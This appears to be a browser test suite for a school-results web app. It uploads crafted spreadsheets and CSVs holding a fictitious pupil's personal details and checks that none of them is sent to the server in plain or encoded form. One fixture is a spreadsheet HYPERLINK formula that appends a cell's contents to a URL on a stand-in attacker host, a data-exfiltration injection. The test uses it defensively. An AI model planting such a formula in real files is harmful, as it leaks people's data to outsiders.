/**
 * Hostile files through every window that reads files: of names, codes, points, notes, headings and formulas nothing
 * may go up, plain or encoded. What is searched is every call as it left the browser.
 */
import { writeXlsx } from 'hucre/xlsx';
import { LOAD } from '../../src/messages/dialog-load';
import { ANSWERS_DIALOG } from '../../src/messages/dialog-answers';
import { RECHECK_DIALOG } from '../../src/messages/dialog-recheck';
import { FIRST, book, filled } from '../support/answers-book';
import { Book } from '../support/book';
import { OpenDialog, closeBrowser } from '../support/dialog';
import { describeWith } from '../support/shared';

const PERSON = { last: 'Выдуманнова', first: 'Пульхерия', middle: 'Порфирьевна' };
const FULL = `${PERSON.last} ${PERSON.first} ${PERSON.middle}`;
const FIRST_CODE = 73_615_001;
const NOTE = 'заболела ветрянкой';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Школа")';
const PHONE = '+7 903 555-81-46';
/** Twelve tasks in an order that nothing else has. */
const POINTS = [1, 0, 2, 1, 1, 0, 0, 2, 1, 0, 1, 2];

/** Every writing of a text that the windows, a browser or a server have for it. */
function writings(secret: string): string[] {
  const bytes = Buffer.from(secret);
  const json = JSON.stringify(secret).slice(1, -1);
  const escaped = Array.from(secret, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`);
  return [
    secret,
    json,
    encodeURIComponent(secret),
    escaped.join(''),
    bytes.toString('hex'),
    // The letters of base64 that depend on nothing around them, at each of its three places.
    ...[0, 1, 2].map((shift) =>
      Buffer.concat([Buffer.alloc(shift), bytes])
        .toString('base64')
        .slice(shift === 0 ? 0 : 4)
        .replace(/.{0,4}$/, ''),
    ),
  ].filter((text) => text.length >= 5);
}

function leaks({ calls }: OpenDialog, secrets: readonly string[]): string[] {
  const sent = calls.map(({ name, args }) => `${name} ${args.map(String).join(' ')} ${JSON.stringify(args)}`);
  return secrets.filter((secret) => writings(secret).some((text) => sent.some((one) => one.includes(text))));
}

const file = (name: string, bytes: Uint8Array | string) => ({
  name,
  mimeType: '',
  buffer: Buffer.from(bytes as string),
});

const PUPILS = Array.from({ length: 12 }, (_, i) => ({
  code: String(FIRST_CODE + i),
  cells: ['edu900001', 'МО-1', '4А', FIRST_CODE + i, 1, 3 + (i % 4), 4],
}));
const HEADER = ['login', 'mo', 'class', 'code', 'variant', 'total', 'journal_mark'];
const ROW_OF_POINTS = [',', ';', '\t', '","', '", "'].map((between) => POINTS.join(between));
const SECRETS = [
  ...Object.values(PERSON),
  ...PUPILS.map(({ code }) => code),
  ...ROW_OF_POINTS,
  NOTE,
  PHONE,
  'evil.example',
  'ветрянк',
];

/** A protocol with columns that no protocol has. */
const protocol = (): Promise<Uint8Array> =>
  writeXlsx({
    sheets: [
      {
        name: `${PERSON.last} П.П.`,
        rows: [
          [...HEADER, ...POINTS.map((_, i) => `t${i + 1}`), 'ФИО', `Примечание ${FULL}`, 'Телефон', 'Ссылка'],
          ...PUPILS.map(({ cells }) => [...cells, ...POINTS, FULL, NOTE, PHONE, FORMULA]),
          // Rows that are refused and remarked: their sentences may quote nothing.
          ['edu900001', 'МО-1', '4А', FIRST_CODE + 50, 1, FULL, NOTE, ...POINTS],
          ['edu900001', 'МО-1', FULL, FIRST_CODE, PHONE, 999, FORMULA, ...POINTS],
        ] as never,
      },
      {
        name: FULL.slice(0, 30),
        rows: [
          [FULL, NOTE],
          [PHONE, FORMULA],
        ] as never,
      },
    ],
  });
const PROTOCOL_NAME = `ДКР 2024 МА 4 ${FULL}.xlsx`;

describeWith('browser', 'nothing of people goes up', () => {
  let dialog: OpenDialog;
  afterEach(async () => {
    expect(dialog.foreign).toEqual([]);
    await dialog.close();
  });
  afterAll(closeBrowser);

  test('the search finds what is sent, plain or encoded', async () => {
    dialog = await OpenDialog.open(Book.new(), 'load');
    for (const text of [
      FULL,
      encodeURIComponent(FULL),
      Buffer.from(`ab${FULL}cd`).toString('base64'),
      JSON.stringify({ FULL }),
    ])
      dialog.calls.push({ name: '', args: [text], answer: null });
    for (let i = dialog.calls.length - 4; i < dialog.calls.length; i++)
      expect(leaks({ calls: [dialog.calls[i]!] } as unknown as OpenDialog, [FULL])).toEqual([FULL]);
  });

  test('«Загрузить результаты»', async () => {
    dialog = await OpenDialog.open(Book.new(), 'load');
    const { page } = dialog;
    await page.waitForSelector('.drop');
    const noted = [HEADER, ...PUPILS.map(({ cells }) => cells), [FULL, NOTE]].map((row) => row.join(';'));
    await page.setInputFiles('.drop input', [
      file(PROTOCOL_NAME, await protocol()),
      file(`${PERSON.last}_${PERSON.first}_${PERSON.middle}.csv`, `${FULL};${NOTE}\n${PHONE};${FORMULA}`),
      file(`2021_ma4 ${PERSON.last} П.П..csv`, noted.join('\n')),
    ]);
    await page.waitForSelector(`h1:text-is("${LOAD.found}")`);
    await page.click('.buttons button.main');
    await page.waitForSelector(`h1:text-is("${LOAD.done}")`);
    expect(dialog.calls.map(({ name }) => name)).toContain('apiStageCommit');
    expect(leaks(dialog, SECRETS)).toEqual([]);
  }, 30_000);

  test('«Перепроверка», drawing and entering', async () => {
    dialog = await OpenDialog.open(Book.new(), 'recheck');
    const { page } = dialog;
    await page.waitForSelector('[role=tab]');
    await page.setInputFiles('#panel-draw input[type=file]', [file(PROTOCOL_NAME, await protocol())]);
    await page.getByRole('button', { name: RECHECK_DIALOG.drawButton }).click();
    const link = page.getByRole('link', { name: /Перепроверка .*\.xlsx/ });
    const [list] = await Promise.all([page.waitForEvent('download'), link.click()]);
    const path = await list.path();
    await page.getByRole('tab', { name: RECHECK_DIALOG.enter }).click();
    await page.setInputFiles('#panel-enter input[type=file]', path);
    await page.locator('#panel-enter details summary').first().click();
    const marks = page.getByLabel(/Балл эксперта, участник/);
    await marks.first().fill('5');
    await marks.nth(1).fill(FULL);
    await page.getByRole('button', { name: RECHECK_DIALOG.enterButton }).click();
    await page.waitForSelector('#panel-enter [role=status].good, [role=alert] .notice');
    expect(dialog.calls.map(({ name }) => name)).toContain('apiRecheckDraw');
    expect(dialog.calls.map(({ name }) => name)).toContain('apiRecheckSave');
    expect(leaks(dialog, SECRETS)).toEqual([]);
  }, 30_000);

  test('«Принять сведения ОО…»: what stands beside the fields of the form', async () => {
    const on = book();
    dialog = await OpenDialog.open(on, 'answers');
    const { page } = dialog;
    const sheets = filled(on, FIRST).comment(`Код участника ${FIRST_CODE}: ${NOTE}`);
    for (const one of sheets.sheets.slice(1))
      one.rows.forEach((row, i) => row.push(i === 0 ? `Учитель ${FULL}` : PHONE));
    sheets.sheets.push({
      name: FULL.slice(0, 30),
      rows: [[...HEADER], ...PUPILS.map(({ cells }) => [...cells, NOTE])],
    });
    const bytes = await writeXlsx({ sheets: sheets.sheets as never });
    await page.setInputFiles('.drop input', [
      file(`${PERSON.last}_${PERSON.first}_${PERSON.middle}.xlsx`, bytes),
      file(`${FULL}.csv`, `${FULL};${NOTE}`),
    ]);
    await page.getByRole('button', { name: ANSWERS_DIALOG.write }).click();
    await page.getByText(ANSWERS_DIALOG.next).waitFor();
    expect(dialog.calls.map(({ name }) => name)).toEqual(['apiPlanAnswers', 'apiRunAnswers']);
    expect(leaks(dialog, SECRETS)).toEqual([]);
  }, 30_000);
});
